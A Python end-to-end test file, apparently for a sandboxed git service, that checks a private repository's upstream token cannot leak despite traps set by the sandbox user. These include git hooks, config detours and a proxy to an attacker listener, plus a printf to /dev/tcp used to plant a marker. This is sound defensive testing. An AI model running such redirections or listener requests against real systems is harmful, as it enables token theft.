"""A private repository is worked on from a sandbox in which there is nothing to steal.

The sandbox's own user sets every trap for the upstream's token, in the repository and around git;
then commits, pushes, fetches and pulls are made over the API and by hand. All of it works, and the
token is nowhere that anybody but the server's memory and the upstream can see.
"""

import base64
import json
import secrets
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack
from pathlib import Path

import anyio
import httpx
import pytest
from sqlalchemy import select

from craftastic.database import Database
from craftastic.tables import METADATA
from tests.conftest import PostgresServer, driver_url
from tests.e2e._private import Stage, Upstream, Work
from tests.e2e._search import (
    HostWatch,
    dump_of,
    exported,
    files_of,
    members_of,
    places_of,
    shown_by_docker,
)
from tests.e2e._traps import CAUGHT, Detour, Ports, arm, detours
from tests.e2e.harness import Api, Server, until
from tests.fakes.git_http_server import GitHttpServer, git, make_repository
from tests.fakes.toy_github import ToyGitHub
from tests.leaks import USERS

DAY_S = 86_400.0
FRESH_S = 11.0
"""After so long a 401 cannot mean any more that not all of GitHub knows the token yet."""


SPRINGING = (
    "pre-push", "reference-transaction", "pre-commit", "prepare-commit-msg", "commit-msg",
    "post-commit", "post-merge", "post-index-change", "post-checkout",
)  # fmt: skip
"""Hooks that honest work sets off."""

PLANTED = "planted"
PLACES_IN_MEMORY = ("tmp", "var/tmp", "run/craftastic", "dev/shm")


@pytest.fixture
def private(tmp_path: Path) -> Iterator[tuple[ToyGitHub, Upstream]]:
    """Give a GitHub, and a repository at its address that only its tokens open."""
    root = tmp_path / "github"
    root.mkdir()
    bare = make_repository(root / "private.git")
    git("branch", "other", "main", cwd=bare)
    with ToyGitHub(interval=1) as github:
        github.add_user("octocat", name="The Octocat")

        def accepts(username: str, password: str) -> bool:
            return username == "x-access-token" and github.is_valid(password)

        elsewhere = {"/login/": github.url, "/api/v3/": github.url}
        with GitHttpServer(root, accepts=accepts, elsewhere=elsewhere) as server:
            github.url = server.url("").rstrip("/")
            yield github, Upstream(server, bare)


@pytest.fixture
def password() -> str:
    return f"a password {secrets.token_hex(16)}"


@pytest.fixture
def other(tmp_path: Path, password: str) -> Iterator[Upstream]:
    """Give a repository on a plain git server that wants a username and a password."""
    root = tmp_path / "other"
    root.mkdir()
    bare = make_repository(root / "second.git")

    def accepts(username: str, given: str) -> bool:
        return (username, given) == ("somebody", password)

    with GitHttpServer(root, accepts=accepts) as server:
        yield Upstream(server, bare)


@pytest.fixture
def postgres(request: pytest.FixtureRequest, database_url: str) -> PostgresServer | None:
    if database_url.startswith("sqlite"):
        return None
    server: PostgresServer = request.getfixturevalue("postgres_server")
    return server


@pytest.fixture
async def stage(
    data_dir: Path,
    runtime: str,
    database_url: str,
    postgres: PostgresServer | None,
    private: tuple[ToyGitHub, Upstream],
    other: Upstream,
    password: str,
) -> AsyncIterator[Stage]:
    github, repository = private
    server = Server(
        data_dir,
        runtime=runtime,
        database_url=database_url,
        GITHUB_CLIENT_ID=github.client_id,
        GITHUB_URL=repository.base.rstrip("/"),
        CRAFTASTIC_SANDBOX_SELF_TEST="0",
    )
    answers: list[str] = []

    async def keep(answer: httpx.Response) -> None:
        answers.append(f"{(await answer.aread()).decode()}{answer.headers}")

    async with AsyncExitStack() as stack:
        stack.push_async_callback(_cleaned, server)
        server.start()
        await server.ready()
        api = await stack.enter_async_context(Api(server.url))
        api.client.event_hooks["response"].append(keep)
        await api.register("a@example.com", setupToken=server.setup_token)
        yield Stage(
            server, api, github, repository, other, password, database_url, postgres, answers
        )


async def _cleaned(server: Server) -> None:
    with anyio.CancelScope(shield=True):
        await server.clean()


async def test_all_of_git_works_on_a_private_repository_whose_token_nobody_can_steal(
    stage: Stage, runtime: str, tmp_path: Path
) -> None:
    marker = f"planted{secrets.token_hex(16)}"
    process = stage.server.process
    assert process is not None
    users = range(stage.server.uid_base, stage.server.uid_base + USERS)
    with HostWatch(process.pid, users) as watch:
        await stage.connect()
        async with AsyncExitStack() as attached:
            work = await attached.enter_async_context(
                stage.working("private", stage.private, "feature/one")
            )
            ports = await arm(work.viewer, stage.private.base)
            await honest_work(stage, work, stage.private)
            for detour in detours(await gateway_of(work), ports):
                await go_astray(stage, work, detour)
            await through_a_proxy(stage, work, ports)
            await after_the_tokens_end(stage, work)

            host = {"origin": stage.other.base.rstrip("/"), "username": "somebody"}
            put = await stage.api.client.put(
                "/api/git/hosts", json={**host, "password": stage.password}
            )
            assert put.status_code == 200, put.text
            second = await attached.enter_async_context(
                stage.working(marker, stage.other, "feature/two")
            )
            second_ports = await arm(second.viewer, stage.other.base)
            await by_hand_and_over_the_api(second, stage.other)
            (listed,) = (await stage.api.get("/api/git/hosts"))["data"]["hosts"]
            assert listed["origin"] == host["origin"]
            assert "lastUsedAt" in listed

            await leave_what_must_be_found(stage, second, second_ports, marker)
            evidence = await collected(stage, [work, second], watch)

    wanted = {*stage.github.secrets(), stage.password}
    found = places_of({*wanted, marker}, evidence)
    assert places_that_hold_what_was_planted(second, runtime) - found.pop(marker) == set()
    assert {secret: places for secret, places in found.items() if places} == {}
    if runtime == "docker":
        for one in (work, second):
            inside = await anyio.to_thread.run_sync(
                exported, one.environment["containerId"], {*wanted, "dev:x:"}, tmp_path
            )
            assert inside == {"dev:x:"}, "the export is a whole file system, without secrets"


@pytest.mark.parametrize("before", ["", "x", "x-access-token:", "{"])
@pytest.mark.parametrize("after", ["", "@", "\n\n", ":x-oauth-basic"])
def test_the_search_finds_a_secret_however_it_is_encoded(before: str, after: str) -> None:
    text = f"{before}{(secret := secrets.token_urlsafe(20))}{after}".encode()
    evidence = {
        "as it is": text,
        "base64": base64.b64encode(text),
        "base64 of URLs": base64.urlsafe_b64encode(text).rstrip(b"="),
        "hex": text.hex().encode(),
    }
    another = secrets.token_urlsafe(20)

    found = places_of([secret, another], evidence)

    assert found == {secret: set(evidence), another: set()}


async def gateway_of(work: Work) -> str:
    """Return the beginning of what `origin` is in the sandbox: scheme, host, port, a slash."""
    url = (await work.typed("/usr/bin/git config remote.origin.url")).strip()
    return url.partition("git/")[0]


async def honest_work(stage: Stage, work: Work, upstream: Upstream) -> None:
    """Commit, push, fetch and pull over the API and by hand, on the session's own branch."""
    branch = await by_hand_and_over_the_api(work, upstream)

    # What was moved meanwhile is not pushed.
    wrong = await work.ask("push", 409, expectedSha=upstream.at("main"))
    assert wrong["code"] == "BRANCH_MOVED", wrong

    # What somebody else pushes is fetched and pulled.
    typed, theirs = upstream.at(branch), upstream.somebody_pushes(branch, "theirs")
    await work.typed("git fetch")
    assert (await work.typed("/usr/bin/git rev-parse '@{upstream}'")).strip() == theirs
    assert await work.head() == typed
    await work.typed("git pull")
    assert await work.head() == theirs
    again = upstream.somebody_pushes(branch, "again")
    assert (await work.ask("fetch"))["data"]["behind"] == 1
    pulled = (await work.ask("pull"))["data"]
    assert (pulled["before"], pulled["after"], pulled["updated"]) == (theirs, again, True)
    assert await work.head() == again

    await work.typed("git switch --quiet -c aside && git switch --quiet -")
    sprung = (await work.typed(f"ls {CAUGHT}")).split()
    expected = {f"hook-{name}" for name in SPRINGING} | {
        "before-git", "curl", "monitor", "trace", "trace2", "watched-environ", "watched-cmdline",
    }  # fmt: skip
    assert expected - set(sprung) == set()
    assert "heard-asking" not in sprung, "no setting led git's honest requests to the attacker"
    assert "X-Craftastic-Push" in await work.typed(
        f"grep -ao X-Craftastic-Push {CAUGHT}/curl | head -1"
    )


async def by_hand_and_over_the_api(work: Work, upstream: Upstream) -> str:
    """Commit and push both ways; return the branch."""
    branch = work.session["gitBranch"]
    assert upstream.at(branch) == ""
    made = await work.commit_and_push("over the API")
    assert upstream.at(branch) == made
    typed = await work.type_commit_and_push("by hand")
    assert upstream.at(branch) == typed
    return branch


async def go_astray(stage: Stage, work: Work, detour: Detour) -> None:
    """Push while settings lead git to the attacker: nothing arrives, and all of it says so."""
    before = stage.private.at(work.session["gitBranch"])
    for trap in detour.springs:
        kept = f"{CAUGHT}/{trap}-before-{detour.name}"
        await work.typed(f"touch {CAUGHT}/{trap} && mv {CAUGHT}/{trap} {kept}")
    setting, value = detour.setting
    await work.typed(f"/usr/bin/git config --add '{setting}' '{value}'")
    await work.change(detour.name)
    await work.ask("commit", message=detour.name)
    answer = await work.api.client.post(f"/api/git/push/{work.id}", json={})
    assert 400 <= answer.status_code < 500, answer.text
    assert "did not push" in answer.json()["error"]
    said = await work.typed("git push", ends=128)
    assert stage.private.at(work.session["gitBranch"]) == before
    for trap in detour.springs:
        sprung = await work.typed(f"test -s {CAUGHT}/{trap} && echo sprung", ends=None)
        assert sprung == "sprung", f"{detour.name} leads to {trap}: {answer.text} {said}"
    await work.typed(f"/usr/bin/git config --unset-all '{setting}'")


async def after_the_tokens_end(stage: Stage, work: Work) -> None:
    """Let GitHub's token end: it is renewed, and git in the terminal does not notice."""
    await until(lambda: time.monotonic() > stage.connected_at + FRESH_S, "the token is known")
    (old,) = stage.github.tokens_valid()
    stage.github.advance(DAY_S)
    assert stage.github.tokens_valid() == set()
    typed = await work.type_commit_and_push("a day later", before="GIT_CURL_VERBOSE=1 ")
    assert stage.private.at(work.session["gitBranch"]) == typed
    (new,) = stage.github.tokens_valid()
    assert new != old


async def through_a_proxy(stage: Stage, work: Work, ports: Ports) -> None:
    """Push through a proxy of the attacker's that does what is asked of it."""
    await work.typed(
        f"/usr/bin/git config --add remote.origin.proxy http://127.0.0.1:{ports.forwarding}"
    )
    branch = work.session["gitBranch"]
    made = await work.commit_and_push("proxy")
    assert stage.private.at(branch) == made
    typed = await work.type_commit_and_push("proxy by hand")
    assert stage.private.at(branch) == typed
    heard = await work.typed(f"grep -aoc 'POST /git/.*/git-receive-pack' {CAUGHT}/heard-forwarding")
    assert int(heard) >= 2, "the proxy had both pushes"
    await work.typed("/usr/bin/git config --unset-all remote.origin.proxy")


async def leave_what_must_be_found(stage: Stage, work: Work, ports: Ports, marker: str) -> None:
    """Put a marker everywhere that is searched."""
    await stage.api.client.get(f"/api/environments/check-name/{stage.api.user['id']}/{marker}")
    (stage.other.bare.parent / "planted").write_text(marker)
    git("hash-object", "-w", str(stage.other.bare.parent / "planted"), cwd=stage.other.bare)
    await work.typed("mkdir -p ~/.cache/deep")
    for place in ("~/.cache/deep", *(f"/{one}" for one in PLACES_IN_MEMORY)):
        await work.typed(f"printf 'x%s' {marker} | base64 -w0 >{place}/{PLANTED}")
    await work.typed(f"printf %s {marker} | /usr/bin/git hash-object -w --stdin")
    await work.typed(f"tmux set-environment -g PLANTED {marker}")
    request = f"GET / HTTP/1.0\\r\\nX: {marker}\\r\\n\\r\\n"
    await work.typed(f"printf '{request}' >/dev/tcp/127.0.0.1/{ports.asking}")
    await work.typed(f"PLANTED={marker} sh -c 'sleep 600; :' {marker} & planted=$!")
    for kind in ("environ", "cmdline"):
        waiting = f"until grep -qa {marker} {CAUGHT}/watched-{kind}; do sleep 0.1; done"
        await work.typed(f"timeout 30 bash -c '{waiting}'")
    await work.typed(
        f"timeout 30 bash -c 'until grep -qa {marker} {CAUGHT}/heard-asking; do sleep 0.1; done'"
    )


async def collected(stage: Stage, works: list[Work], watch: HostWatch) -> dict[str, bytes]:
    """Gather everything that is searched, by the names of the places."""
    evidence: dict[str, bytes] = {}
    for work in works:
        await work.typed("/usr/bin/git cat-file --batch-all-objects --batch >~/trap/caught/objects")
        await work.typed(
            "{ tmux show-environment -g; tmux show-environment; tmux show-options -g; } "
            "> ~/trap/caught/tmux"
        )
        await work.typed(
            "tar -cf ~/trap/memory.tar -C / tmp var/tmp run dev/shm 2>/dev/null", ends=None
        )
    evidence |= await anyio.to_thread.run_sync(files_of, stage.server.data_dir)
    for work in works:
        memory = stage.server.data_dir / "homes" / work.environment["id"] / "trap" / "memory.tar"
        evidence |= {
            f"{place} of {work.environment['id']}": content
            for place, content in members_of(memory.read_bytes()).items()
        }
    if stage.server.environment["CRAFTASTIC_RUNTIME"] == "docker":
        evidence |= shown_by_docker(work.environment["containerId"] for work in works)
    evidence |= watch.evidence()
    evidence["the database"] = dump_of(stage.database_url, stage.postgres)
    evidence["the API's answers"] = "".join(stage.answers).encode()
    evidence["the terminals"] = b"".join(bytes(viewer.document) for viewer in stage.viewers)
    evidence["the upstreams' objects"] = stage.private.objects() + stage.other.objects()
    return evidence


def places_that_hold_what_was_planted(work: Work, runtime: str) -> set[str]:
    key = work.environment["id"]
    caught = f"file homes/{key}/trap/caught"
    found = {
        "file server.log", f"file homes/{key}/.cache/deep/{PLANTED}", f"{caught}/objects",
        f"{caught}/tmux", f"{caught}/heard-asking", f"{caught}/watched-environ",
        f"{caught}/watched-cmdline", "host environ", "host cmdline", "the database",
        "the API's answers", "the terminals", "the upstreams' objects",
    }  # fmt: skip
    found |= {f"memory /{place}/{PLANTED} of {key}" for place in PLACES_IN_MEMORY}
    if runtime == "docker":
        found.add(f"docker inspect {work.environment['containerId'][:12]}")
    return found


async def test_what_may_be_pushed_is_decided_outside_of_the_sandbox_and_written_down(
    stage: Stage,
) -> None:
    await stage.connect()
    async with stage.working("policy", stage.private, "feature/one") as work:
        mine, private = work.session["gitBranch"], stage.private
        first = await work.commit_and_push("first")
        main, other = private.at("main"), private.at("other")

        said = await work.typed("git push origin HEAD:other", ends=1)
        assert "! [remote rejected] HEAD -> other (this environment allows pushes to" in said
        assert "start a session on this branch, or change its push policy, to push to it" in said
        await work.typed("git tag v1")
        said = await work.typed("git push origin v1", ends=1)
        assert "change its push policy to push tags" in said
        assert (private.at("other"), private.at("refs/tags/v1")) == (other, "")

        await policy(work, "none")
        await work.change("second")
        await work.ask("commit", message="second")
        refused = await work.ask("push", 403)
        assert refused["code"] == "PUSH_NOT_ALLOWED", refused
        assert "this environment allows no pushes" in str(refused)
        said = await work.typed("git push", ends=1)
        assert "this environment allows no pushes; change its push policy" in said
        assert private.at(mine) == first

        await policy(work, "any")
        await work.typed("git push origin v1 HEAD:other")
        second = await work.head()
        assert (private.at("refs/tags/v1"), private.at("other")) == (first, second)
        assert private.at("main") == main

        nothing = "0" * 40
        expected = [
            (f"refs/heads/{mine}", nothing, first, "ok"),
            ("refs/heads/other", other, first, "refused"),
            ("refs/tags/v1", nothing, first, "refused"),
            (f"refs/heads/{mine}", first, second, "refused"),
            (f"refs/heads/{mine}", first, second, "refused"),
            ("refs/heads/other", other, second, "ok"),
            ("refs/tags/v1", nothing, first, "ok"),
        ]
        key = work.environment["id"]
        listed = (await stage.api.get(f"/api/git/pushes/{key}"))["data"]["pushes"]
        told = [(one["ref"], one["old"], one["new"], one["outcome"]) for one in reversed(listed)]
        assert sorted(told[-2:]) == expected[-2:]
        assert told[:-2] == expected[:-2]
        assert await audited(stage.database_url, key) == told


async def policy(work: Work, which: str) -> None:
    answer = await work.api.client.patch(
        f"/api/environments/{work.environment['id']}", json={"pushPolicy": which}
    )
    assert answer.status_code == 200, answer.text
    assert answer.json()["pushPolicy"] == which


async def audited(database_url: str, environment: str) -> list[tuple[str, str, str, str]]:
    """Return the refs that the audit log has for an environment, with their outcomes."""
    events = METADATA.tables["audit_events"]
    database = Database(driver_url(database_url))
    try:
        async with database.read() as tx:
            rows = await tx.execute(
                select(events.c.details, events.c.outcome)
                .where(
                    events.c.action == "git.push",
                    events.c.object_type == "environment",
                    events.c.object_id == environment,
                )
                .order_by(events.c.seq)
            )
            return [
                (one["ref"], one["old"], one["new"], row.outcome)
                for row in rows
                for one in json.loads(row.details)["refs"]
            ]
    finally:
        await database.close()


async def test_without_its_connection_git_says_the_way_on_and_works_again_after_it(
    stage: Stage,
) -> None:
    refused = await stage.api.environment("too early", stage.private.url)
    way_on = "connect GitHub to Craftastic, then try again"

    async def reason() -> str:
        now = await stage.api.get(f"/api/environments/{refused['id']}")
        return now.get("cloneReason", "") if now["cloneStatus"] == "failed" else ""

    assert way_on in await until(reason, "the clone has failed")

    await stage.connect()
    async with stage.working("connected", stage.private, "feature/one") as work:
        await work.commit_and_push("first")
        before = await work.typed(ALL_SETTINGS)
        (token,) = stage.github.tokens_valid()

        assert (await stage.api.delete("/api/auth/github/disconnect"))["success"] is True
        assert not stage.github.is_valid(token)
        said = await work.typed("git fetch", ends=128)
        assert "remote: 127.0.0.1 asks for an account" in said
        assert way_on in said
        failed = await work.ask("fetch", 400)
        assert failed["code"] == "GIT_AUTHENTICATION_REQUIRED", failed
        assert way_on in str(failed)

        await stage.connect()
        theirs = stage.private.somebody_pushes(work.session["gitBranch"], "theirs")
        await work.typed("git pull")
        assert await work.head() == theirs
        await work.commit_and_push("last")
        assert await work.typed(ALL_SETTINGS) == before


ALL_SETTINGS = "git config --list --show-origin | grep -v '^file:/dev/null' | sha256sum"
